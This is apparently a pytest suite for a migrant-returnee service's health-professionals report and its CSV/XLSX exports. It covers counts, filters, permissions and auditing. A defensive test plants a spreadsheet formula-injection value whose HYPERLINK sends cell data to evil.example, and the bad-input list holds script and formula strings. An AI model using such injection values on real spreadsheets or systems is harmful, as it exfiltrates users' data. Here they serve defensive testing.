"""The health professionals and recognition report (/reports/health, #18): people with a work
experience in ISCO-08 221, 222 or 322, by country and year of return, sex, occupation group,
recognition of their qualifications and current situation, against SQL of its own."""

from collections import Counter
from datetime import date, timedelta
from decimal import Decimal

import pytest
from sqlalchemy import select, text
from werkzeug.datastructures import MultiDict

from returnsvc.audit.models import AuditEntry
from returnsvc.auth.models import User
from returnsvc.core.clock import day_start, local_today
from returnsvc.core.countries import country_name
from returnsvc.core.i18n import in_locale
from returnsvc.enterprise.models import Enterprise
from returnsvc.extensions import db
from returnsvc.matching.models import MatchDecision, Placement
from returnsvc.reports.filters import parse_filters, scope_of
from returnsvc.reports.health import health_report
from returnsvc.returnees.models import MigrationHistory
from returnsvc.skills.models import Qualification, WorkExperience, WorkPlace
from tests.cases.helpers import other_client
from tests.guide_factories import ensure_isco
from tests.helpers import count_statements
from tests.reports.export_helpers import csv_rows, csv_sections, sheet_rows, workbook

EN = {"Accept-Language": "en"}
ES = {"Accept-Language": "es"}
DOCTOR, NURSE, ASSOCIATE, COOK, BRICKLAYER = "2211", "2221", "3221", "5120", "7112"


def _worked(returnee_id, isco, last_year=None, years=None):
    ensure_isco(isco)
    db.session.add(
        WorkExperience(
            returnee_id=returnee_id,
            isco_code=isco,
            place=WorkPlace.ABROAD,
            last_year_worked=last_year,
            years_experience=Decimal(years) if years is not None else None,
        )
    )


def _qualification(returnee_id, status):
    requested = None if status == "not_needed" else date(2023, 1, 10)
    resolved = date(2023, 9, 1) if status in ("recognised", "rejected") else None
    db.session.add(
        Qualification(
            returnee_id=returnee_id, title="Título", isced_level="isced7", issuing_country="ES",
            recognition_status=status, recognition_requested_on=requested,
            recognition_resolved_on=resolved,
        )
    )  # fmt: skip


def _placed(case_id, isco, start):
    decision = MatchDecision(
        case_id=case_id, kind="demand", entry_id=1, entry_title="Job", entry_isco=isco,
        status="hired", score=80, components=[], reasons=[], gaps=[], weights_version="default",
    )  # fmt: skip
    db.session.add(decision)
    db.session.flush()
    db.session.add(
        Placement(
            case_id=case_id, decision_id=decision.id, employer_name="Hospital", start_date=start,
            contract_type="permanent", is_formal=True,
        )
    )  # fmt: skip


def _business(case_id, stage):
    db.session.add(
        Enterprise(case_id=case_id, name="Consultorio", sector="Q", stage=stage,
                   launched_on=date(2024, 5, 1) if stage != "idea" else None)
    )  # fmt: skip


def _returned(returnee_id, day):
    migration = db.session.query(MigrationHistory).filter_by(returnee_id=returnee_id).one()
    migration.actual_return_date = day


# name: (sex, country, year of return, occupation group, recognition, situation): what the
# seeded people are, read by a person; the SQL below and the report must both find it.
EXPECTED_PEOPLE = {
    "ana": ("female", "EC", 2023, "221", "recognised", "placed_health"),
    "bea": ("female", "EC", 2024, "222", "in_progress", "placed_elsewhere"),
    "carlos": ("male", "EC", None, "322", "rejected", "business"),
    "diego": ("male", "EC", 2023, "221", "not_needed", "seeking"),
    "eli": ("other", "EC", 2024, "322", "none", "placed_health"),
    "fer": ("female", "EC", 2024, "222", "in_progress", "placed_elsewhere"),
    "ivan": ("male", "EC", 2022, "221", "in_progress", "placed_health"),
}


@pytest.fixture
def world(app, make):
    ec = make.office("EC", name="Quito")
    ec2 = make.office("EC", name="Cuenca")
    bo = make.office("BO", name="La Paz")
    cases = {
        name: make.case(office_id=ec.id, origin_country="EC", sex=sex)
        for name, (sex, *_rest) in EXPECTED_PEOPLE.items()
    }
    cases["gus"] = make.case(office_id=ec.id, origin_country="EC", sex="male")  # bricklayer
    cases["hana"] = make.case(office_id=ec.id, origin_country="EC", sex="female")  # closed
    cases["olga"] = make.case(office_id=ec.id, origin_country="EC", sex="female")  # anonymised
    cases["pablo"] = make.case(
        office_id=bo.id, origin_country="BO", nationality="BO", document_country="BO",
        region_code="BO-L", sex="male",
    )  # fmt: skip
    today = local_today()
    past, future = today - timedelta(days=30), today + timedelta(days=30)
    with app.app_context():
        r = {name: case.returnee_id for name, case in cases.items()}
        c = {name: case.id for name, case in cases.items()}
        # Ana: a doctor lately, a nurse before; one recognised diploma, one rejected; a job as
        # a doctor, and an enterprise (the job comes first).
        _worked(r["ana"], DOCTOR, 2022, 10)
        _worked(r["ana"], NURSE, 2015, 3)
        _qualification(r["ana"], "recognised")
        _qualification(r["ana"], "rejected")
        _placed(c["ana"], DOCTOR, past)
        _business(c["ana"], "operating")
        _returned(r["ana"], date(2023, 3, 1))
        # Bea: a nurse waiting for recognition, working as a cook.
        _worked(r["bea"], NURSE, 2023)
        _qualification(r["bea"], "requested")
        _qualification(r["bea"], "not_needed")
        _placed(c["bea"], COOK, past)
        _returned(r["bea"], date(2024, 2, 1))
        # Carlos: an associate nurse, not yet back (no return date), running a business; his
        # recognition was rejected.
        _worked(r["carlos"], ASSOCIATE, None, 5)
        _qualification(r["carlos"], "rejected")
        _business(c["carlos"], "launched")
        # Diego: a doctor with a diploma that needs no recognition; a paused business and a job
        # that starts next month: seeking.
        _worked(r["diego"], DOCTOR, 2020)
        _qualification(r["diego"], "not_needed")
        _business(c["diego"], "paused")
        _business(c["diego"], "idea")
        _placed(c["diego"], DOCTOR, future)
        _returned(r["diego"], date(2023, 12, 31))
        # Eli: an associate nurse until 2020 and a nurse in an unknown year (the known year
        # wins), no qualification, a job as an associate nurse.
        _worked(r["eli"], ASSOCIATE, 2020, 1)
        _worked(r["eli"], NURSE, None, 20)
        _placed(c["eli"], ASSOCIATE, past)
        _returned(r["eli"], date(2024, 7, 1))
        # Fer: a nurse (two experiences in the same year: the longer one), a job of unknown
        # occupation and a business: placed elsewhere.
        _worked(r["fer"], NURSE, 2019, 2)
        _worked(r["fer"], ASSOCIATE, 2019, 1)
        _qualification(r["fer"], "in_progress")
        _placed(c["fer"], "", past)
        _business(c["fer"], "operating")
        _returned(r["fer"], date(2024, 1, 1))
        # Ivan: a doctor with two cases (the first, at the other office, closed today; his job is
        # on it), counted once.
        _worked(r["ivan"], DOCTOR, 2021)
        _qualification(r["ivan"], "in_progress")
        _qualification(r["ivan"], "not_needed")
        _returned(r["ivan"], date(2022, 6, 1))
        # Gus: a bricklayer placed as one: not a health professional.
        _worked(r["gus"], BRICKLAYER, 2024)
        _placed(c["gus"], BRICKLAYER, past)
        # Hana: a doctor whose case was open from June three years ago to June two years ago;
        # Olga: a nurse, anonymised; Pablo: a doctor in Bolivia.
        _worked(r["hana"], DOCTOR, 2020)
        _worked(r["olga"], NURSE, 2020)
        _worked(r["pablo"], DOCTOR, 2020)
        _qualification(r["pablo"], "recognised")
        _returned(r["pablo"], date(2021, 1, 1))
        db.session.flush()
        db.session.execute(
            text(
                "UPDATE case_file SET stage = 'closed', close_reason = 'employed',"
                " opened_at = :opened, closed_at = :closed WHERE id = :id"
            ),
            {
                "id": c["hana"],
                "opened": day_start(date(today.year - 3, 6, 15)),
                "closed": day_start(date(today.year - 2, 6, 15)),
            },
        )
        db.session.execute(
            text("UPDATE returnee SET anonymised_at = now() WHERE id = :id"), {"id": r["olga"]}
        )
        db.session.execute(
            text(
                "UPDATE case_file SET stage = 'closed', close_reason = 'employed',"
                " office_id = :office, closed_at = now() WHERE id = :id"
            ),
            {"id": c["ivan"], "office": ec2.id},
        )
        db.session.commit()
    ivan_again = make.case(office_id=ec.id, returnee_id=r["ivan"])
    with app.app_context():
        _placed(c["ivan"], NURSE, past)  # on the closed case: still his situation
        db.session.commit()
    c["ivan2"] = ivan_again.id
    return {"ec": ec, "ec2": ec2, "bo": bo, "returnees": r, "cases": c}


# Independent: window functions and bool_or over the tables, visibility as a manager's (the
# cases of the offices of one country).
PEOPLE_SQL = """
WITH scope AS (
  SELECT c.id, c.returnee_id, c.opened_at, c.closed_at
  FROM case_file c JOIN office o ON o.id = c.office_id JOIN returnee r ON r.id = c.returnee_id
  WHERE o.country = ANY(:countries) AND r.anonymised_at IS NULL AND (:sex = '' OR r.sex = :sex)
    AND (:office = 0 OR c.office_id = :office)
), health AS (
  SELECT returnee_id, substr(isco_code, 1, 3) AS grp,
         row_number() OVER (PARTITION BY returnee_id ORDER BY coalesce(last_year_worked, 0) DESC,
                            coalesce(years_experience, -1) DESC, id DESC) AS n
  FROM work_experience WHERE substr(isco_code, 1, 3) IN ('221', '222', '322')
), persons AS (
  SELECT DISTINCT s.returnee_id FROM scope s JOIN health h ON h.returnee_id = s.returnee_id
  WHERE s.opened_at < :ends AND (s.closed_at IS NULL OR s.closed_at >= :starts)
), recognition AS (
  SELECT returnee_id,
         CASE WHEN bool_or(recognition_status = 'recognised') THEN 'recognised'
              WHEN bool_or(recognition_status IN ('requested', 'in_progress')) THEN 'in_progress'
              WHEN bool_or(recognition_status = 'rejected') THEN 'rejected'
              ELSE 'not_needed' END AS status
  FROM qualification GROUP BY returnee_id
), jobs AS (
  SELECT s.returnee_id, bool_or(substr(d.entry_isco, 1, 2) IN ('22', '32')) AS in_health
  FROM placement p JOIN match_decision d ON d.id = p.decision_id JOIN scope s ON s.id = p.case_id
  WHERE p.start_date <= :today GROUP BY s.returnee_id
), businesses AS (
  SELECT DISTINCT s.returnee_id FROM enterprise e JOIN scope s ON s.id = e.case_id
  WHERE e.stage IN ('launched', 'operating')
)
SELECT p.returnee_id, r.sex, r.origin_country,
       date_part('year', m.actual_return_date)::int, h.grp, coalesce(rc.status, 'none'),
       CASE WHEN j.in_health THEN 'placed_health' WHEN j.returnee_id IS NOT NULL
            THEN 'placed_elsewhere' WHEN b.returnee_id IS NOT NULL THEN 'business'
            ELSE 'seeking' END
FROM persons p
JOIN returnee r ON r.id = p.returnee_id
LEFT JOIN migration_history m ON m.returnee_id = p.returnee_id
JOIN health h ON h.returnee_id = p.returnee_id AND h.n = 1
LEFT JOIN recognition rc ON rc.returnee_id = p.returnee_id
LEFT JOIN jobs j ON j.returnee_id = p.returnee_id
LEFT JOIN businesses b ON b.returnee_id = p.returnee_id
"""


def _people(countries, first_day, last_day, sex="", office=0):
    rows = db.session.execute(
        text(PEOPLE_SQL),
        {
            "countries": list(countries), "sex": sex, "office": office,
            "starts": day_start(first_day), "ends": day_start(last_day + timedelta(days=1)),
            "today": local_today(),
        },
    ).all()  # fmt: skip
    return {row[0]: tuple(row[1:]) for row in rows}


def _counts(people: dict) -> Counter:
    """{(dimension, key, sex): people} of the SQL's rows."""
    counts = Counter()
    for sex, country, year, group, recognition, situation in people.values():
        counts[("country_year", (country, year), sex)] += 1
        counts[("occupation", group, sex)] += 1
        counts[("recognition", recognition, sex)] += 1
        counts[("situation", situation, sex)] += 1
    return counts


def _report_counts(report) -> Counter:
    counts = Counter()
    dimensions = {
        "country_year": report.by_country_year,
        "occupation": report.by_occupation,
        "recognition": report.by_recognition,
        "situation": report.by_situation,
    }
    for name, rows in dimensions.items():
        for key, by_sex in rows:
            for sex, n in by_sex.values.items():
                if n:
                    counts[(name, getattr(key, "value", key), sex.value)] += n
    return counts


def _compute(app, user_id, args: dict):
    with app.test_request_context():
        user = db.session.get(User, user_id)
        filters = parse_filters(MultiDict(args), user)
        return filters, health_report(scope_of(filters, user))


def test_each_person_is_where_the_seeded_record_puts_them(app, make, world):
    this_year = local_today().year
    with app.app_context():
        people = _people(["EC"], date(this_year, 1, 1), date(this_year, 12, 31))
    r = world["returnees"]
    assert people == {r[name]: row for name, row in EXPECTED_PEOPLE.items()}


def test_the_managers_report_matches_sql_of_its_own(app, make, world):
    manager = make.user("manager", office_id=world["ec"].id)
    this_year = local_today().year
    filters, report = _compute(app, manager.id, {})
    assert filters.country == "EC" and (filters.first_day, filters.last_day) == (
        date(this_year, 1, 1),
        date(this_year, 12, 31),
    )
    with app.app_context():
        expected = _counts(_people(["EC"], filters.first_day, filters.last_day))
    assert _report_counts(report) == expected
    # The split by sex, read by hand: 3 women, 3 men, 1 other; Bolivia's doctor left out.
    assert (report.total.female, report.total.male, report.total.other) == (3, 3, 1)
    situation = dict(report.by_situation)
    placed = [s for s in situation if s.value == "placed_health"][0]
    assert (situation[placed].female, situation[placed].male, situation[placed].other) == (1, 1, 1)
    assert [key for key, _n in report.by_country_year] == [
        ("EC", 2022), ("EC", 2023), ("EC", 2024), ("EC", None),
    ]  # fmt: skip


def test_an_administrator_sees_every_country(app, make, world):
    admin = make.user("admin")
    _filters, report = _compute(app, admin.id, {})
    this_year = local_today().year
    with app.app_context():
        people = _people(["EC", "BO", "ES"], date(this_year, 1, 1), date(this_year, 12, 31))
    assert _report_counts(report) == _counts(people)
    assert ("BO", 2021) in [key for key, _n in report.by_country_year]
    assert report.total.total == 8


@pytest.mark.parametrize(
    "args, sex, office",
    [
        ({"sex": "female"}, "female", 0),
        ({"sex": "male"}, "male", 0),
        ({"office": "ec2"}, "", "ec2"),
    ],
)
def test_filters_narrow_the_people(app, make, world, args, sex, office):
    manager = make.user("manager", office_id=world["ec"].id)
    if office:
        args = {"office": str(world[office].id)}
        office = world[office].id
    filters, report = _compute(app, manager.id, args)
    assert not filters.problems
    with app.app_context():
        expected = _counts(_people(["EC"], filters.first_day, filters.last_day, sex, office))
    assert _report_counts(report) == expected and expected
    if office:
        # Ivan's case at Cuenca, with his job on it, closed today: a man placed in health.
        assert report.total.total == 1 and report.by_situation[0][1].male == 1


def test_the_period_selects_cases_open_in_it(app, make, world):
    manager = make.user("manager", office_id=world["ec"].id)
    three_years_ago = local_today().year - 3
    # Only Hana's case was open three years ago (every other opened today).
    _filters, report = _compute(app, manager.id, {"year": str(three_years_ago)})
    assert report.total.total == 1 and report.total.female == 1
    with app.app_context():
        expected = _counts(
            _people(["EC"], date(three_years_ago, 1, 1), date(three_years_ago, 12, 31))
        )
    assert _report_counts(report) == expected
    _filters, report = _compute(app, manager.id, {"health": "no"})
    assert report.total.total == 0


def test_one_statement_whatever_the_number_of_people(app, make, world):
    manager = make.user("manager", office_id=world["ec"].id)
    with count_statements(app) as statements:
        _compute(app, manager.id, {})
    few = len(statements)
    for sex in ("female", "male"):
        case = make.case(office_id=world["ec"].id, sex=sex)
        with app.app_context():
            _worked(case.returnee_id, NURSE, 2020)
            _qualification(case.returnee_id, "recognised")
            _placed(case.id, NURSE, local_today())
            db.session.commit()
    with count_statements(app) as statements:
        _filters, report = _compute(app, manager.id, {})
    assert len(statements) == few
    assert report.total.total == 9
    report_statements = [s for s in statements if "GROUPING SETS" in s]
    assert len(report_statements) == 1


def test_the_page_in_english_and_spanish(app, client, make, sign_in, world):
    sign_in("manager", office_id=world["ec"].id, locale="en")
    response = client.get("/reports/health", headers=EN)
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert "Health professionals and recognition" in html
    assert "Medical doctors (ISCO 221)" in html and "Placed in a health job" in html
    assert "Not yet returned" in html and "What the figures count" in html
    assert "<svg" in html and "La Paz" not in html  # Bolivia's office is not offered
    occupations = html.split('id="health-occupation"', 1)[1].split("</section>", 1)[0]
    doctors = occupations.split('<th scope="row">Medical doctors (ISCO 221)</th>', 1)[1]
    # Doctors: Ana (woman), Diego and Ivan (men).
    assert doctors.split("</tr>", 1)[0] == (
        '<td class="numeric">1</td><td class="numeric">2</td>'
        '<td class="numeric">0</td><td class="numeric">3</td>'
    )

    spanish = other_client(app, make.user("manager", office_id=world["ec"].id, locale="es"))
    html = spanish.get("/reports/health?sex=female", headers=ES).get_data(as_text=True)
    assert '<html lang="es"' in html and "Mujeres" in html and "País de retorno" in html
    assert "Ecuador" in html


def test_the_dashboard_links_to_the_report_with_its_filters(client, sign_in, world):
    sign_in("manager", office_id=world["ec"].id, locale="en")
    dashboard = client.get("/reports/?sex=female", headers=EN).get_data(as_text=True)
    link = dashboard.split('href="/reports/health?', 1)[1].split('"', 1)[0]
    assert "country=EC" in link and "sex=female" in link


def test_other_roles_are_refused(client, sign_in, world):
    sign_in("counsellor", office_id=world["ec"].id, locale="en")
    assert client.get("/reports/health", headers=EN).status_code == 403


# --- the export (/reports/exports/health.csv and .xlsx) -------------------------------------

HOSTILE_OFFICE = '=HYPERLINK("http://evil.example/?x="&A1,"Cuenca")'
TITLES = [
    "Filters", "By country and year of return", "By sex", "By occupation group",
    "Recognition of qualifications", "Current situation",
]  # fmt: skip


def _export(client, file_format="csv", **args):
    response = client.post(f"/reports/exports/health.{file_format}", query_string=args, headers=EN)
    assert response.status_code == 200, response.get_data(as_text=True)[:400]
    return response


def _counts_of(counts) -> list[str]:
    return [str(n) for n in (counts.female, counts.male, counts.other, counts.total)]


BY_SEX = ["Women", "Men", "Other or not said", "Total"]


def _expected_tables(app, user_id, args) -> dict:
    """The report's tables as an English CSV writes them, from health_report (the page's)."""
    _filters, report = _compute(app, user_id, args)
    total = _counts_of(report.total)
    with app.test_request_context(), in_locale("en"):
        places = [
            [country_name(country, "en"), str(year) if year else "Not yet returned", *_counts_of(c)]
            for (country, year), c in report.by_country_year
        ]
        sexes = [
            [label, str(report.total[sex])]
            for sex, label in zip(("female", "male", "other"), BY_SEX[:3], strict=True)
        ]
        tables = {
            "By country and year of return": [
                ["Country of return", "Year of return", *BY_SEX],
                *places,
                ["Total", "", *total],
            ],
            "By sex": [["Sex", "People"], *sexes, ["Total", total[-1]]],
        }
        for title, first, rows in (
            ("By occupation group", "Occupation group", report.by_occupation),
            ("Recognition of qualifications", "Recognition", report.by_recognition),
            ("Current situation", "Situation", report.by_situation),
        ):
            labelled = [[str(key.label), *_counts_of(c)] for key, c in rows]
            tables[title] = [[first, *BY_SEX], *labelled, ["Total", *total]]
    return tables


def test_the_csv_holds_the_pages_tables(app, client, make, sign_in, world):
    manager = sign_in("manager", office_id=world["ec"].id, locale="en")
    response = _export(client)
    this_year = local_today().year
    assert response.mimetype == "text/csv"
    assert response.headers["Cache-Control"] == "no-store"
    disposition = response.headers["Content-Disposition"]
    assert f"outcomes-health-{this_year}-01-01-{this_year}-12-31.csv" in disposition
    sections = csv_sections(response.data)
    assert list(sections) == TITLES
    filters = dict(sections["Filters"][1:])
    assert filters["Country of return"] == "Ecuador" and filters["Office"] == "All"
    assert filters["Recognition and situation read on"] == local_today().isoformat()
    expected = _expected_tables(app, manager.id, {})
    assert {title: sections[title] for title in TITLES[1:]} == expected
    # The numbers the page shows: its doctors' row (Ana; Diego and Ivan) and its total.
    html = client.get("/reports/health", headers=EN).get_data(as_text=True)
    occupations = html.split('id="health-occupation"', 1)[1].split("</section>", 1)[0]
    doctors = occupations.split('<th scope="row">Medical doctors (ISCO 221)</th>', 1)[1]
    shown = [cell.split("<", 1)[0] for cell in doctors.split("</tr>", 1)[0].split('">')[1:]]
    assert shown == ["1", "2", "0", "3"]
    assert ["Medical doctors (ISCO 221)", *shown] in sections["By occupation group"]
    assert sections["By sex"][-1] == ["Total", "7"]
    # Counts only: nobody's name, document or title.
    body = response.get_data(as_text=True)
    with app.app_context():
        people = db.session.execute(
            text("SELECT given_names, first_surname, document_number FROM returnee")
        ).all()
    for person in people:
        for value in person:
            assert not value or value not in body, value
    assert "Título" not in body and "Hospital" not in body


def test_the_xlsx_has_a_sheet_per_table_with_numbers(app, client, sign_in, world):
    manager = sign_in("manager", office_id=world["ec"].id, locale="en")
    response = _export(client, "xlsx", sex="female")
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = workbook(response.data)
    assert book.sheetnames == [
        "Filters", "By country and year of return", "By sex", "By occupation group",
        "Recognition of qualifications", "Current situation",
    ]  # fmt: skip
    filters = dict(sheet_rows(book["Filters"])[1:])
    assert filters["Sex"] == "Woman"
    assert filters["Recognition and situation read on"].date() == local_today()
    expected = _expected_tables(app, manager.id, {"sex": "female"})
    for title in TITLES[1:]:
        rows = sheet_rows(book[title])
        as_text = [["" if v is None else str(v) for v in row] for row in rows]
        assert as_text == expected[title], title
        assert isinstance(rows[-1][-1], int)  # numbers stay numbers


def test_formula_text_is_neutralised(app, client, make, sign_in, world):
    hostile = make.office("EC", name=HOSTILE_OFFICE)
    sign_in("manager", office_id=world["ec"].id, locale="en", full_name="=SUM(A1:A9)")
    rows = csv_rows(_export(client, office=hostile.id).data)
    assert ["Office", "'" + HOSTILE_OFFICE] in rows
    assert ["Made by", "'=SUM(A1:A9)"] in rows
    book = workbook(_export(client, "xlsx", office=hostile.id).data)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    office = next(cell for cell in cells if cell.value == HOSTILE_OFFICE)
    assert office.data_type == "s"


def test_the_export_is_audited(app, client, sign_in, world):
    manager = sign_in("manager", office_id=world["ec"].id, locale="en")
    year = local_today().year
    sections = csv_sections(_export(client, year=year, sex="female").data)
    with app.app_context():
        entry = db.session.scalars(
            select(AuditEntry).where(AuditEntry.action == "outcomes.exported")
        ).one()
        recorded = (entry.actor_id, entry.changes)
    rows = sum(len(table) - 1 for title, table in sections.items() if title != "Filters")
    assert recorded == (
        manager.id,
        {
            "kind": "health",
            "format": "csv",
            "filters": {"country": "EC", "sex": "female", "year": year},
            "rows": rows,
        },
    )


@pytest.mark.parametrize("role", ["counsellor", "returnee"])
def test_only_those_who_see_outcomes_export_it(client, sign_in, world, role):
    sign_in(role, office_id=world["ec"].id)
    for file_format in ("csv", "xlsx"):
        assert client.post(f"/reports/exports/health.{file_format}").status_code == 403


def test_anonymous_unknown_format_and_get(client, sign_in, world):
    assert client.post("/reports/exports/health.csv").status_code == 302
    sign_in("manager", office_id=world["ec"].id)
    assert client.post("/reports/exports/health.pdf").status_code == 404
    assert client.get("/reports/exports/health.csv").status_code == 405


BAD_ARGS = [
    {"office": "abc"}, {"office": "99999999999999"}, {"office": "-1"}, {"year": "²"},
    {"year": "1999"}, {"year": "2025", "quarter": "9"}, {"from": "2025-02-30", "to": "x"},
    {"from": "2025-12-31", "to": "2025-01-01"}, {"sex": "<script>"}, {"age": "old"},
    {"programme": "=1+1"}, {"health": "maybe"}, {"country": "ZZ"}, {"country": "BO"},
]  # fmt: skip


@pytest.mark.parametrize("args", BAD_ARGS)
def test_bad_filter_values_never_fail(client, sign_in, world, args):
    sign_in("manager", office_id=world["ec"].id, locale="en")
    for file_format in ("csv", "xlsx"):
        response = client.post(
            f"/reports/exports/health.{file_format}", query_string=args, headers=EN
        )
        assert response.status_code == 200, args


def test_a_nul_in_the_filters_is_refused_cleanly(client, sign_in, world):
    sign_in("manager", office_id=world["ec"].id, locale="en")
    response = client.post("/reports/exports/health.csv", query_string={"office": "\x00"})
    assert response.status_code == 400  # core.input_guard, as everywhere


def test_the_page_offers_the_export_of_its_filters(client, sign_in, world):
    sign_in("manager", office_id=world["ec"].id, locale="en")
    html = client.get("/reports/health?sex=female", headers=EN).get_data(as_text=True)
    forms = html.split('class="report-exports', 1)[1].split("</section>", 1)[0]
    for file_format in ("csv", "xlsx"):
        action = forms.split(f'action="/reports/exports/health.{file_format}?', 1)[1]
        action = action.split('"', 1)[0]
        assert "country=EC" in action and "sex=female" in action
    assert 'method="post"' in forms and 'name="csrf_token"' in forms
